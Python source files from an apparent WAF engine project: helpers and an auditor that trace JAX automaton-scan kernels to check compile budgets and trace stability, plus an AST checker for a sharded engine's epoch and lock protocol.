def iter_jaxprs(jaxpr):
    """The jaxpr plus every nested sub-jaxpr, depth-first."""
    yield jaxpr
    for eqn in jaxpr.eqns:
        for v in eqn.params.values():
            for sub in _maybe_jaxprs(v):
                yield from iter_jaxprs(sub)


def find_callbacks(jaxpr) -> list[str]:
    """Names of host-callback primitives anywhere in the graph."""
    return [eqn.primitive.name
            for j in iter_jaxprs(jaxpr)
            for eqn in j.eqns
            if eqn.primitive.name in CALLBACK_PRIMITIVES]


def dynamic_shapes(jaxpr) -> list[str]:
    """Avals whose shape is not a tuple of concrete ints (data-dependent
    or polymorphic dimensions — neuronx-cc compiles static shapes only)."""
    bad: list[str] = []
    for j in iter_jaxprs(jaxpr):
        vars_ = list(j.invars) + list(j.outvars)
        vars_ += [o for eqn in j.eqns for o in eqn.outvars]
        for v in vars_:
            aval = getattr(v, "aval", None)
            shape = getattr(aval, "shape", ())
            if not all(isinstance(d, int) for d in shape):
                bad.append(str(aval))
    return bad


def _count_gathers(jaxpr) -> int:
    return sum(1
               for j in iter_jaxprs(jaxpr)
               for eqn in j.eqns
               if eqn.primitive.name in GATHER_PRIMITIVES)


def _max_in_scan_bodies(jaxpr, count) -> int:
    """Worst ``count(body)`` over every scan/while body in the graph;
    0 when the graph has no loop."""
    worst = 0
    for j in iter_jaxprs(jaxpr):
        for eqn in j.eqns:
            if eqn.primitive.name not in ("scan", "while"):
                continue
            for key in ("jaxpr", "body_jaxpr", "cond_jaxpr"):
                v = eqn.params.get(key)
                if v is None:
                    continue
                for body in _maybe_jaxprs(v):
                    worst = max(worst, count(body))
    return worst


def max_gathers_per_scan_step(jaxpr) -> int:
    """The worst per-sequential-step gather count: for every ``scan`` /
    ``while`` eqn in the graph, count gather-class primitives inside its
    body (recursively). 0 when the graph has no loop."""
    return _max_in_scan_bodies(jaxpr, _count_gathers)


def _count_matmuls(jaxpr) -> int:
    return sum(1
               for j in iter_jaxprs(jaxpr)
               for eqn in j.eqns
               if eqn.primitive.name in MATMUL_PRIMITIVES)


def max_matmuls_per_scan_step(jaxpr) -> int:
    """The worst per-sequential-step contraction count (compose-mode
    chunk bodies: associative-scan combine matmuls + the state apply).
    When the graph has no loop at all, the total count is returned —
    a loopless compose program still pays every matmul each dispatch."""
    worst = _max_in_scan_bodies(jaxpr, _count_matmuls)
    if worst == 0:
        has_loop = any(eqn.primitive.name in ("scan", "while")
                       for j in iter_jaxprs(jaxpr)
                       for eqn in j.eqns)
        if not has_loop:
            return _count_matmuls(jaxpr)
    return worst


def trace_digest(closed) -> str:
    """Canonical digest of a trace: the jit-cache-key proxy.

    Two calls that produce the same digest re-trace to the same program
    and hence hit the same compile cache entry. The pretty-printed jaxpr
    is deterministic (vars are numbered in traversal order) and carries
    shapes, dtypes and static params but NOT operand values — so equal
    digests across different table values prove a hot reload cannot
    trigger a recompile."""
    h = hashlib.sha256(str(closed.jaxpr).encode("utf-8"))
    return h.hexdigest()[:16]
