"""Kernel-graph auditor: static proofs over every traceable scan variant.

The engine's device path is a closed family of kernels — scan mode
(gather / one-hot matmul / map compose / BASS compose fallback / union
screen) × stride (1/2/4)
× length bucket (models.waf_model.LENGTH_BUCKETS) × placement
(replicated / rp-sharded) plus the carried-state block variants that
chain long streams. This module traces every member of that family to its jaxpr
(``jax.make_jaxpr`` — abstract evaluation, the exact program jit would
cache, no compile, no device) and statically verifies, per trace:

- **host-callback**: no ``pure_callback``/``io_callback`` primitive
  anywhere in the graph (a host round trip per dispatch; neuronx-cc
  rejects them outright);
- **data-dependent-control-flow / dynamic-shape**: the trace must exist
  (a Python branch on traced data raises at trace time) and every aval
  must have concrete integer dims;
- **gather-budget**: at most ``2*stride + 2`` gather-class primitives
  per sequential scan step (k state-independent class gathers, k-1
  pair-class folds, ONE state-dependent table gather, headroom 2 for
  the screen's fused mask row) — override with WAF_AUDIT_GATHER_BUDGET;
- **matmul-budget** (compose mode only): at most ``2*chunk + 4``
  contraction primitives per sequential chunk step (≤2K-2 combine
  matmuls for the work-efficient prefix composition of K maps, one
  state apply, headroom for the lowering's reshapes) — override with
  WAF_AUDIT_COMPOSE_BUDGET;
- **trace-unstable / trace-cache-keys**: re-tracing with different table
  VALUES (same shapes) must produce a byte-identical jaxpr — a hot
  reload can never recompile — and the distinct-digest count across the
  whole matrix is bounded by the variant×bucket count, so the bucketed
  shape set cannot trigger a recompile storm;
- **resident-memory**: stride tables, one-hot T2 operands and rp table
  slices estimated in int32-entry equivalents against
  WAF_STRIDE_TABLE_BUDGET / WAF_MESH_RP_BUDGET, one diagnostic per
  kernel group.

The matrix runs over a small synthetic table group: the proofs are
about the *kernel family* (shape-bucketed program structure), which is
independent of the concrete ruleset — per-ruleset table budgets are
enforced at admission by waf-lint (analysis/analyzer.py).
"""

from __future__ import annotations

import numpy as np

import jax

from ...compiler.screen import build_screen, compose_screen_stride
from ...config import env as envcfg
from ...models.waf_model import LENGTH_BUCKETS
from ...ops import automata_jax, bass_compose, bass_screen
from ...ops.packing import PAD, PreparedTables, compose_stride
from ..diagnostics import ERROR, INFO, AnalysisReport
from .graph import (
    dynamic_shapes,
    find_callbacks,
    max_gathers_per_scan_step,
    max_matmuls_per_scan_step,
    trace_digest,
)

MODES = ("gather", "onehot", "compose")
STRIDES = (1, 2, 4)
LANES = 8  # lanes per traced batch: shape-only, any small count works
# compose chunk used for the traced family: small enough to keep the
# trace fast, structurally identical to any runtime WAF_COMPOSE_CHUNK
_AUDIT_CHUNK = 16

# trace-time exceptions that mean "python control flow consumed a traced
# value" — the device-path bug JIT001 approximates at source level and
# this auditor proves at trace level
_TRACER_ERRORS = tuple(
    e for e in (
        getattr(jax.errors, n, None)
        for n in ("TracerBoolConversionError", "ConcretizationTypeError",
                  "TracerArrayConversionError",
                  "TracerIntegerConversionError"))
    if e is not None)


def _gather_budget(stride: int, override: int | None = None) -> int:
    if override is not None:
        return override
    env = envcfg.get_int("WAF_AUDIT_GATHER_BUDGET")
    if env > 0:
        return env
    return 2 * stride + 2


def _compose_budget(chunk: int, override: int | None = None) -> int:
    if override is not None:
        return override
    env = envcfg.get_int("WAF_AUDIT_COMPOSE_BUDGET")
    if env > 0:
        return env
    return 2 * chunk + 4


def audit_traced(report: AnalysisReport, label: str, fn, args, *,
                 stride: int = 1,
                 gather_budget: int | None = None,
                 matmul_budget: int | None = None) -> str | None:
    """Trace ``fn(*args)`` and run the per-graph checks; returns the
    trace digest (the jit-cache-key proxy) or None when the trace itself
    failed. The building block for both the built-in matrix and the
    seeded-violation fixtures in tests."""
    try:
        closed = jax.make_jaxpr(fn)(*args)
    except _TRACER_ERRORS as exc:
        report.add(
            ERROR, "data-dependent-control-flow",
            f"{label}: python control flow consumed a traced value at "
            f"trace time ({type(exc).__name__})",
            fix_hint="branch with jnp.where/lax.cond; shapes and trip "
                     "counts must be static per bucket")
        return None
    except Exception as exc:  # noqa: BLE001 — any trace failure is a finding
        report.add(
            ERROR, "trace-failure",
            f"{label}: tracing raised {type(exc).__name__}: "
            f"{str(exc).splitlines()[0][:160]}")
        return None
    callbacks = find_callbacks(closed.jaxpr)
    if callbacks:
        report.add(
            ERROR, "host-callback",
            f"{label}: host callback primitive(s) in the device path: "
            f"{sorted(set(callbacks))}",
            fix_hint="device kernels must be pure; move host work to "
                     "pack/collect time")
    dyn = dynamic_shapes(closed.jaxpr)
    if dyn:
        report.add(
            ERROR, "dynamic-shape",
            f"{label}: non-static dims in traced avals: {dyn[:4]}",
            fix_hint="pad to a LENGTH_BUCKETS/LANE_PAD bucket before "
                     "dispatch")
    budget = _gather_budget(stride, gather_budget)
    worst = max_gathers_per_scan_step(closed.jaxpr)
    if worst > budget:
        report.add(
            ERROR, "gather-budget",
            f"{label}: {worst} gather ops per scan step exceeds the "
            f"budget of {budget} (stride {stride})",
            fix_hint="hoist state-independent gathers out of the "
                     "recurrence or raise WAF_AUDIT_GATHER_BUDGET with "
                     "a recorded justification")
    if matmul_budget is not None:
        worst_mm = max_matmuls_per_scan_step(closed.jaxpr)
        if worst_mm > matmul_budget:
            report.add(
                ERROR, "matmul-budget",
                f"{label}: {worst_mm} contraction ops per scan step "
                f"exceeds the compose budget of {matmul_budget}",
                fix_hint="keep the chunk's composition work-efficient "
                         "(prefix-compose, one state apply) or raise "
                         "WAF_AUDIT_COMPOSE_BUDGET with a recorded "
                         "justification")
    return trace_digest(closed)


# --------------------------------------------------------------------------
# synthetic kernel-family inputs


def _synthetic_tables(m: int = 4, s: int = 5, c: int = 4,
                      seed: int = 0) -> PreparedTables:
    """A tiny valid table group shaped like prepare_tables output: c real
    classes plus the PAD identity class in slot c."""
    rng = np.random.default_rng(seed)
    c_max = c + 1
    tables = rng.integers(0, s, size=(m, s, c_max)).astype(np.int32)
    tables[:, :, c] = np.arange(s, dtype=np.int32)[None, :]
    classes = rng.integers(0, c, size=(m, 259)).astype(np.int32)
    classes[:, PAD] = c
    return PreparedTables(
        tables=tables, classes=classes,
        starts=np.zeros(m, np.int32),
        accepts=np.full(m, s - 1, np.int32),
        n_states=np.full(m, s, np.int32),
        real_entries=int(tables.size))


def _symbols(rng, n: int, length: int) -> np.ndarray:
    return rng.integers(0, 256, size=(n, length)).astype(np.int32)


def _bump(args):
    """Same shapes/dtypes, different values — the hot-reload probe."""
    if isinstance(args, np.ndarray):
        return (args + 1).astype(args.dtype)
    if isinstance(args, (tuple, list)):
        return type(args)(_bump(a) for a in args)
    return args


class _Variant:
    """One (mode, stride, placement) kernel; args vary per L bucket."""

    def __init__(self, label: str, stride: int, fn, args_for, *,
                 matmul_budget: int | None = None) -> None:
        self.label = label
        self.stride = stride
        self.fn = fn
        self.args_for = args_for  # L -> args tuple
        self.matmul_budget = matmul_budget  # compose variants only


def _build_variants(pt: PreparedTables, strided: dict, scr, sscr,
                    rng, quick: bool,
                    compose_budget: int | None = None) -> list[_Variant]:
    lm = (np.arange(LANES) % pt.m).astype(np.int32)
    variants: list[_Variant] = []
    strides = (1, 2) if quick else STRIDES
    mm_budget = _compose_budget(_AUDIT_CHUNK, compose_budget)

    for stride in strides:
        st = strided.get(stride)
        if stride > 1 and st is None:
            continue
        if stride == 1:
            variants.append(_Variant(
                f"gather/s1", 1, automata_jax.gather_scan,
                lambda L: (pt.tables, pt.classes, pt.starts, lm,
                           _symbols(rng, LANES, L))))
            variants.append(_Variant(
                f"onehot/s1", 1, automata_jax.onehot_matmul_scan,
                lambda L: (pt.tables, pt.classes, pt.starts, lm,
                           _symbols(rng, LANES, L))))
            variants.append(_Variant(
                f"compose/s1", 1,
                lambda *a: automata_jax.compose_scan(
                    *a, chunk=_AUDIT_CHUNK),
                lambda L: (pt.tables, pt.classes, pt.starts, lm,
                           _symbols(rng, LANES, L)),
                matmul_budget=mm_budget))
            # bass_compose's JAX-level fallback: off-device this traces
            # to the compose formulation, which is exactly what the
            # engine dispatches when the kernel can't run — the fallback
            # seam stays in the audited family
            variants.append(_Variant(
                f"bass_compose/s1", 1,
                lambda *a: bass_compose.bass_compose_scan(
                    *a, chunk=_AUDIT_CHUNK),
                lambda L: (pt.tables, pt.classes, pt.starts, lm,
                           _symbols(rng, LANES, L)),
                matmul_budget=mm_budget))
        else:
            variants.append(_Variant(
                f"gather/s{stride}", stride,
                lambda *a, _k=stride: automata_jax.gather_scan_strided(
                    *a, _k),
                lambda L, _st=st: (_st.tables, _st.levels, pt.classes,
                                   pt.starts, lm,
                                   _symbols(rng, LANES, L))))
            variants.append(_Variant(
                f"onehot/s{stride}", stride,
                lambda *a, _k=stride:
                    automata_jax.onehot_matmul_scan_strided(*a, _k),
                lambda L, _st=st: (_st.tables, _st.levels, pt.classes,
                                   pt.starts, lm,
                                   _symbols(rng, LANES, L))))
            variants.append(_Variant(
                f"compose/s{stride}", stride,
                lambda *a, _k=stride: automata_jax.compose_scan_strided(
                    *a, _k, chunk=_AUDIT_CHUNK),
                lambda L, _st=st: (_st.tables, _st.levels, pt.classes,
                                   pt.starts, lm,
                                   _symbols(rng, LANES, L)),
                matmul_budget=mm_budget))
            variants.append(_Variant(
                f"bass_compose/s{stride}", stride,
                lambda *a, _k=stride:
                    bass_compose.bass_compose_scan_strided(
                        *a, _k, chunk=_AUDIT_CHUNK),
                lambda L, _st=st: (_st.tables, _st.levels, pt.classes,
                                   pt.starts, lm,
                                   _symbols(rng, LANES, L)),
                matmul_budget=mm_budget))
    if quick:
        return variants

    # union-screen kernels (one shared automaton, mask accumulation)
    if scr is not None:
        variants.append(_Variant(
            "screen/s1", 1, automata_jax.fused_screen_scan,
            lambda L: (scr.table, scr.classes, scr.masks,
                       _symbols(rng, LANES, L))))
        # bass_screen's JAX-level fallback: off-device this traces to
        # the gather screen, which is exactly what the engine
        # dispatches when the kernel can't run — the bass_screen ->
        # screen_gather seam stays in the audited family
        variants.append(_Variant(
            "bass_screen/s1", 1,
            lambda *a: bass_screen.bass_fused_screen_scan(
                *a, chunk=_AUDIT_CHUNK),
            lambda L: (scr.table, scr.classes, scr.masks,
                       _symbols(rng, LANES, L)),
            matmul_budget=mm_budget))
    if sscr is not None:
        variants.append(_Variant(
            "screen/s2", 2,
            lambda *a: automata_jax.fused_screen_scan_strided(*a, 2),
            lambda L: (sscr.table, sscr.levels, scr.classes, sscr.masks,
                       _symbols(rng, LANES, L))))
        variants.append(_Variant(
            "bass_screen/s2", 2,
            lambda *a: bass_screen.bass_fused_screen_scan_strided(
                *a, 2, chunk=_AUDIT_CHUNK),
            lambda L: (sscr.table, sscr.levels, scr.classes, sscr.masks,
                       _symbols(rng, LANES, L)),
            matmul_budget=mm_budget))

    # carried-state block kernels (MAX_UNROLL-chained long streams)
    B = automata_jax.MAX_UNROLL
    state0 = np.zeros(LANES, np.int32)
    variants.append(_Variant(
        "gather-block/s1", 1, automata_jax.gather_scan_with_state,
        lambda L, _B=B: (pt.tables, pt.classes, lm,
                         _symbols(rng, LANES, _B), state0)))
    variants.append(_Variant(
        "onehot-block/s1", 1, automata_jax.onehot_matmul_scan_with_state,
        lambda L, _B=B: (pt.tables, pt.classes, lm,
                         _symbols(rng, LANES, _B), state0)))
    variants.append(_Variant(
        "compose-block/s1", 1,
        lambda *a: automata_jax.compose_scan_with_state(
            *a, chunk=_AUDIT_CHUNK),
        lambda L, _B=B: (pt.tables, pt.classes, lm,
                         _symbols(rng, LANES, _B), state0),
        matmul_budget=mm_budget))
    variants.append(_Variant(
        "bass_compose-block/s1", 1,
        lambda *a: bass_compose.bass_compose_scan_with_state(
            *a, chunk=_AUDIT_CHUNK),
        lambda L, _B=B: (pt.tables, pt.classes, lm,
                         _symbols(rng, LANES, _B), state0),
        matmul_budget=mm_budget))
    st2 = strided.get(2)
    if st2 is not None:
        variants.append(_Variant(
            "compose-block/s2", 2,
            lambda *a: automata_jax.compose_scan_strided_with_state(
                *a, 2, chunk=_AUDIT_CHUNK),
            lambda L, _B=B, _st=st2: (_st.tables, _st.levels, pt.classes,
                                      lm, _symbols(rng, LANES, _B),
                                      state0),
            matmul_budget=mm_budget))
    if scr is not None:
        acc0 = np.zeros((LANES, scr.masks.shape[1]), np.int32)
        variants.append(_Variant(
            "screen-block/s1", 1, automata_jax.screen_scan_with_state,
            lambda L, _B=B: (scr.table, scr.classes, scr.masks,
                             _symbols(rng, LANES, _B), state0, acc0)))
        variants.append(_Variant(
            "bass_screen-block/s1", 1,
            lambda *a: bass_screen.bass_screen_scan_with_state(
                *a, chunk=_AUDIT_CHUNK),
            lambda L, _B=B: (scr.table, scr.classes, scr.masks,
                             _symbols(rng, LANES, _B), state0, acc0),
            matmul_budget=mm_budget))
    return variants


def _rp_variant(pt: PreparedTables, rng) -> "_Variant | None":
    """The rp-sharded lane scan over a CPU-simulated 1×2 mesh row —
    traced through shard_map exactly as RpGroupRunner dispatches it."""
    from ...parallel import mesh as wmesh
    from ...parallel.dispatch import sharded_lane_scan

    if wmesh.device_count() < 2:
        # the audit CLI runs on a bare CPU backend; simulate a 2-device
        # row the same way bench/--multichip does. When the backend is
        # already live and cannot be re-shaped (older jax), skip with
        # the INFO diagnostic rather than failing the audit.
        try:
            wmesh.force_host_device_count(2)
        except Exception:
            return None
    if wmesh.device_count() < 2:
        return None
    mesh = wmesh.make_mesh(2, rp=2)
    m_local = pt.m // 2
    fn = sharded_lane_scan(mesh, "rp", m_local)
    lm = (np.arange(LANES) % pt.m).astype(np.int32)
    return _Variant(
        "gather/s1/rp-sharded", 1, fn,
        lambda L: (pt.tables, pt.classes, pt.starts, lm,
                   _symbols(rng, LANES, L)))


# --------------------------------------------------------------------------
# resident-memory estimation


def _check_entries(report: AnalysisReport, group: str, entries: int,
                   budget: int, knob: str) -> None:
    if entries > budget:
        report.add(
            ERROR, "resident-memory",
            f"group {group}: estimated {entries} int32-entry equivalents "
            f"resident on device exceeds {knob}={budget}",
            fix_hint=f"raise {knob} or drop the group to a cheaper "
                     "stride/mode")
    else:
        report.add(
            INFO, "resident-memory",
            f"group {group}: {entries} int32-entry equivalents within "
            f"{knob}={budget}")


def _audit_memory(report: AnalysisReport, pt: PreparedTables,
                  strided: dict, sscr, rp: int,
                  stride_budget_entries: int | None,
                  rp_budget_entries: int | None) -> None:
    from ...ops.packing import stride_budget
    from ...parallel.sharded_engine import rp_budget_entries as rp_budget

    budget = (stride_budget_entries if stride_budget_entries is not None
              else stride_budget())
    rbudget = (rp_budget_entries if rp_budget_entries is not None
               else rp_budget())
    for stride, st in sorted(strided.items()):
        if st is None:
            continue
        _check_entries(report, f"gather/s{stride}", st.entries, budget,
                       "WAF_STRIDE_TABLE_BUDGET")
        # one-hot T2 operand [M, S*P, S] in bf16: ÷2 for int32 equivalents
        t2 = pt.m * pt.s_max * st.p_max * pt.s_max // 2
        _check_entries(report, f"onehot/s{stride}", t2, budget,
                       "WAF_STRIDE_TABLE_BUDGET")
        # compose maps [M, P, S, S] in bf16 — same operand volume as the
        # one-hot T2, laid out per class instead of per (state, class)
        _check_entries(report, f"compose/s{stride}", t2, budget,
                       "WAF_STRIDE_TABLE_BUDGET")
    t2_base = pt.m * pt.s_max * pt.c_max * pt.s_max // 2
    _check_entries(report, "onehot/s1", t2_base, budget,
                   "WAF_STRIDE_TABLE_BUDGET")
    _check_entries(report, "compose/s1", t2_base, budget,
                   "WAF_STRIDE_TABLE_BUDGET")
    if sscr is not None:
        _check_entries(report, "screen/s2", sscr.entries, budget,
                       "WAF_STRIDE_TABLE_BUDGET")
    # rp-sharded slice: base tables split 1/rp per device
    slice_entries = (pt.padded_entries + pt.classes.size) // max(1, rp)
    _check_entries(report, f"rp-sharded(rp={rp})", slice_entries, rbudget,
                   "WAF_MESH_RP_BUDGET")


# --------------------------------------------------------------------------


def run_kernel_audit(report: AnalysisReport | None = None, *,
                     quick: bool = False,
                     gather_budget: int | None = None,
                     compose_budget: int | None = None,
                     stride_budget_entries: int | None = None,
                     rp_budget_entries: int | None = None,
                     seed: int = 0) -> AnalysisReport:
    """Trace the full kernel-variant matrix and verify every invariant.

    ``quick`` restricts to modes × strides (1,2) × two buckets with no
    screen/block/rp variants — the subset the artifact stamp uses.
    Budget overrides exist for the seeded-violation tests."""
    if report is None:
        report = AnalysisReport()
    rng = np.random.default_rng(seed)
    pt = _synthetic_tables(seed=seed)
    strided = {k: compose_stride(pt, k) for k in (2, 4)}
    scr = sscr = None
    if not quick:
        scr = build_screen([["select", "union"], ["script", "iframe"]])
        if scr is not None:
            sscr = compose_screen_stride(scr, 2)
    buckets = (LENGTH_BUCKETS[0], LENGTH_BUCKETS[2]) if quick \
        else LENGTH_BUCKETS

    # bass_compose static schedule check: the hand-scheduled kernel's
    # TensorE op count per chunk (2K: K-1 tree compositions + 1 state
    # apply, each transpose+matmul) must sit inside the SAME budget the
    # traced compose variants are held to — the kernel is hand-scheduled
    # so the count is a closed formula, not a traced graph.
    bass_per_chunk = bass_compose.bass_matmuls_per_chunk(_AUDIT_CHUNK)
    bass_budget = _compose_budget(_AUDIT_CHUNK)
    report.add(
        ERROR if bass_per_chunk > bass_budget else INFO,
        "bass-matmul-budget",
        f"bass_compose: {bass_per_chunk} TensorE ops per {_AUDIT_CHUNK}-"
        f"step chunk vs WAF_AUDIT_COMPOSE_BUDGET={bass_budget}"
        + ("" if bass_per_chunk <= bass_budget else
           " — the hand-written schedule regressed past the spec"))
    # bass_screen static schedule check: the screen kernel runs the
    # state SEQUENTIALLY (2 TensorE ops/step + the mask join), and the
    # strided variant's per-step mask matmul clamps its chunk to K<=4 —
    # both closed formulas must sit inside the same compose budget
    for scr_stride in (1, 2):
        scr_k = bass_screen.screen_chunk(_AUDIT_CHUNK, scr_stride)
        scr_per = bass_screen.bass_screen_matmuls_per_chunk(
            scr_k, scr_stride)
        scr_budget = _compose_budget(scr_k)
        report.add(
            ERROR if scr_per > scr_budget else INFO,
            "bass-screen-matmul-budget",
            f"bass_screen/s{scr_stride}: {scr_per} TensorE ops per "
            f"{scr_k}-step chunk vs WAF_AUDIT_COMPOSE_BUDGET="
            f"{scr_budget}"
            + ("" if scr_per <= scr_budget else
               " — the hand-written schedule regressed past the spec"))

    variants = _build_variants(pt, strided, scr, sscr, rng, quick,
                               compose_budget=compose_budget)
    if not quick:
        rp_v = _rp_variant(pt, rng)
        if rp_v is not None:
            variants.append(rp_v)
        else:
            report.add(INFO, "rp-sharded-skipped",
                       "rp-sharded variants skipped: fewer than 2 "
                       "devices visible")

    digests: set[str] = set()
    n_programs = 0
    for v in variants:
        per_bucket: list[str] = []
        for L in buckets:
            d = audit_traced(report, f"{v.label}/L{L}", v.fn,
                             v.args_for(L), stride=v.stride,
                             gather_budget=gather_budget,
                             matmul_budget=v.matmul_budget)
            n_programs += 1
            if d is not None:
                per_bucket.append(d)
                digests.add(d)
        # hot-reload stability: different table values, same shapes ->
        # the trace (and hence the jit cache key) must be identical
        if per_bucket:
            L0 = buckets[0]
            d2 = audit_traced(report, f"{v.label}/L{L0}/reloaded", v.fn,
                              _bump(v.args_for(L0)), stride=v.stride,
                              gather_budget=gather_budget,
                              matmul_budget=v.matmul_budget)
            if d2 is not None and d2 != per_bucket[0]:
                report.add(
                    ERROR, "trace-unstable",
                    f"{v.label}: re-tracing with different table values "
                    f"changed the program (digest {per_bucket[0]} -> "
                    f"{d2}) — a hot reload would recompile",
                    fix_hint="the trace leaked operand values; keep all "
                             "value-dependent work host-side")
            elif d2 is not None:
                digests.add(d2)

    max_keys = envcfg.get_int("WAF_AUDIT_MAX_CACHE_KEYS")
    bound = max_keys if max_keys > 0 else n_programs
    if len(digests) > bound:
        report.add(
            ERROR, "trace-cache-keys",
            f"{len(digests)} distinct trace cache keys for {n_programs} "
            f"variant×bucket programs (bound {bound}) — the bucketed "
            f"shape set can trigger a recompile storm")
    else:
        report.add(
            INFO, "trace-cache-keys",
            f"{len(digests)} distinct trace cache keys across "
            f"{n_programs} variant×bucket programs (bound {bound}); "
            f"reload re-traces added no keys")

    _audit_memory(report, pt, strided, sscr, rp=2,
                  stride_budget_entries=stride_budget_entries,
                  rp_budget_entries=rp_budget_entries)
    return report
