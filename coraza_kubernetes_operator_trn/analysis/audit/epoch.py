"""Epoch-pinning protocol checker for the sharded engine.

The placement protocol (``ShardedEngine._advance_epoch``) keeps
in-flight batches safe across tenant moves with three ordering rules:

* **install-before-retire** — a moved tenant is installed on its new
  chip before any chip drops it, so there is no epoch in which the
  tenant is resident nowhere;
* **one-epoch deferred retirement** — a chip only drops a tenant that
  was already stale in the *previous* epoch (``self._retired & stale``),
  so a batch pinned to the table published one epoch ago still finds
  its tables resident;
* **publish-last** — ``self._table = ...`` is the final mutation, so a
  reader that snapshots the table sees only fully-installed state.

This checker verifies those rules against the code's actual transition
sites rather than trusting the docstring: it locates the install
(``set_tenant``), retire (``remove_tenant``), retired-set update and
table publish inside the method body and checks their order and guards,
and it proves every ``_advance_epoch`` call site holds the engine lock.
"""

from __future__ import annotations

import ast
import os

from ..diagnostics import ERROR, INFO, AnalysisReport

_LOCK_CTORS = {"Lock", "RLock", "Condition"}


def _default_source() -> tuple[str, str]:
    pkg = os.path.dirname(os.path.dirname(os.path.dirname(
        os.path.abspath(__file__))))
    path = os.path.join(pkg, "parallel", "sharded_engine.py")
    with open(path, encoding="utf-8") as f:
        return path, f.read()


def _find_class(tree: ast.Module, name: str) -> ast.ClassDef | None:
    for node in ast.walk(tree):
        if isinstance(node, ast.ClassDef) and node.name == name:
            return node
    return None


def _mentions_attr(node: ast.AST, attr: str) -> bool:
    return any(isinstance(n, ast.Attribute) and n.attr == attr
               for n in ast.walk(node))


def _assigns_self_attr(stmt: ast.stmt, attr: str) -> bool:
    if not isinstance(stmt, ast.Assign):
        return False
    return any(
        isinstance(t, ast.Attribute) and t.attr == attr
        and isinstance(t.value, ast.Name) and t.value.id == "self"
        for t in stmt.targets)


def _lock_attrs(cls: ast.ClassDef) -> set[str]:
    out = set()
    for node in ast.walk(cls):
        if not isinstance(node, ast.Assign):
            continue
        for tgt in node.targets:
            if not (isinstance(tgt, ast.Attribute)
                    and isinstance(tgt.value, ast.Name)
                    and tgt.value.id == "self"):
                continue
            for call in ast.walk(node.value):
                if isinstance(call, ast.Call):
                    fn = call.func
                    tail = fn.attr if isinstance(fn, ast.Attribute) \
                        else getattr(fn, "id", "")
                    if tail in _LOCK_CTORS:
                        out.add(tgt.attr)
    return out


def run_epoch_audit(report: AnalysisReport | None = None,
                    source: str | None = None,
                    path: str | None = None,
                    class_name: str = "ShardedEngine",
                    method: str = "_advance_epoch") -> AnalysisReport:
    if report is None:
        report = AnalysisReport()
    n_err0 = len(report.errors)
    if source is None:
        path, source = _default_source()
    where = os.path.basename(path or "<source>")
    tree = ast.parse(source, filename=path or "<source>")
    cls = _find_class(tree, class_name)
    if cls is None or method not in {
            n.name for n in cls.body
            if isinstance(n, ast.FunctionDef)}:
        report.add(ERROR, "epoch-missing-transition",
                   f"{where}: {class_name}.{method} not found — the "
                   "epoch protocol has no transition site to verify")
        return report
    fn = next(n for n in cls.body
              if isinstance(n, ast.FunctionDef) and n.name == method)

    # locate the four protocol events by top-level statement index
    install = retire = retired_upd = publish = None  # (idx, stmt)
    retire_stmt = None
    for idx, stmt in enumerate(fn.body):
        if install is None and _mentions_attr(stmt, "set_tenant"):
            install = idx
        if retire is None and _mentions_attr(stmt, "remove_tenant"):
            retire, retire_stmt = idx, stmt
        if _assigns_self_attr(stmt, "_retired"):
            retired_upd = idx
        if _assigns_self_attr(stmt, "_table"):
            publish = idx

    for ev, name in ((install, "install (set_tenant)"),
                     (retire, "retire (remove_tenant)"),
                     (retired_upd, "retired-set update (self._retired)"),
                     (publish, "table publish (self._table)")):
        if ev is None:
            report.add(
                ERROR, "epoch-missing-transition",
                f"{where}:{fn.lineno} {method} has no {name} site",
                fix_hint="the epoch protocol needs all four transition "
                         "sites: install, guarded retire, retired-set "
                         "update, publish")
    if None in (install, retire, retired_upd, publish):
        return report

    if not install < retire:
        report.add(
            ERROR, "epoch-install-after-retire",
            f"{where}:{retire_stmt.lineno} retire precedes install — a "
            "moved tenant would be resident nowhere for part of the "
            "epoch",
            fix_hint="install the tenant on its new chip before any "
                     "chip removes it")

    # the retire must be guarded by the PREVIOUS epoch's retired set:
    # only entries stale for a full epoch may be dropped, so a batch
    # pinned to the previously published table still finds its tables.
    guarded = False
    for node in ast.walk(retire_stmt):
        if isinstance(node, ast.For) and _mentions_attr(node.iter,
                                                        "_retired"):
            if _mentions_attr(node, "remove_tenant"):
                guarded = True
    if not guarded:
        report.add(
            ERROR, "epoch-retire-unguarded",
            f"{where}:{retire_stmt.lineno} remove_tenant is not gated "
            "on the previous epoch's retired set — a table could be "
            "retired while a pinned batch epoch is live",
            fix_hint="iterate `self._retired & stale` (one-epoch "
                     "deferred retirement), not the fresh stale set")

    if not retire < retired_upd:
        report.add(
            ERROR, "epoch-retired-not-deferred",
            f"{where}:{fn.lineno} the retired set is updated before "
            "the retire loop — deferral would drop tables one epoch "
            "early",
            fix_hint="update self._retired only after retiring the "
                     "previous epoch's stale entries")

    if publish != len(fn.body) - 1:
        report.add(
            ERROR, "epoch-publish-not-last",
            f"{where}:{fn.body[publish].lineno} self._table is not the "
            f"final statement of {method} — readers could snapshot a "
            "table whose tenants are not yet installed",
            fix_hint="publish the new table as the last mutation")

    # every call site of the method must hold an engine lock
    locks = _lock_attrs(cls)
    unlocked: list[int] = []
    for other in cls.body:
        if not isinstance(other, ast.FunctionDef) or other.name == method:
            continue
        calls = [
            n for n in ast.walk(other)
            if isinstance(n, ast.Call)
            and isinstance(n.func, ast.Attribute)
            and n.func.attr == method
            and isinstance(n.func.value, ast.Name)
            and n.func.value.id == "self"]
        if not calls:
            continue
        covered: set[ast.Call] = set()
        for w in ast.walk(other):
            if not isinstance(w, (ast.With, ast.AsyncWith)):
                continue
            holds = any(
                isinstance(it.context_expr, ast.Attribute)
                and it.context_expr.attr in locks
                and isinstance(it.context_expr.value, ast.Name)
                and it.context_expr.value.id == "self"
                for it in w.items)
            if holds:
                covered.update(n for n in ast.walk(w)
                               if isinstance(n, ast.Call))
        unlocked.extend(c.lineno for c in calls if c not in covered)
    for lineno in sorted(unlocked):
        report.add(
            ERROR, "epoch-unlocked-advance",
            f"{where}:{lineno} {method} called without holding the "
            "engine lock — concurrent epoch advances could interleave "
            "install/retire",
            fix_hint="wrap the call in `with self._lock:`")

    if len(report.errors) == n_err0:
        report.add(
            INFO, "epoch-protocol",
            f"{where}: {class_name}.{method} verified — install<retire, "
            "retirement deferred one epoch, publish last, all call "
            "sites locked")
    return report
