"""Lock-acquisition-order graph over the data plane's concurrency layer.

AST/dataflow pass over ``runtime/``, ``parallel/`` and ``extproc/`` (the
modules that own threads: MicroBatcher, CircuitBreaker, FaultInjector,
ShardedEngine, the poller): collect every lock a class creates
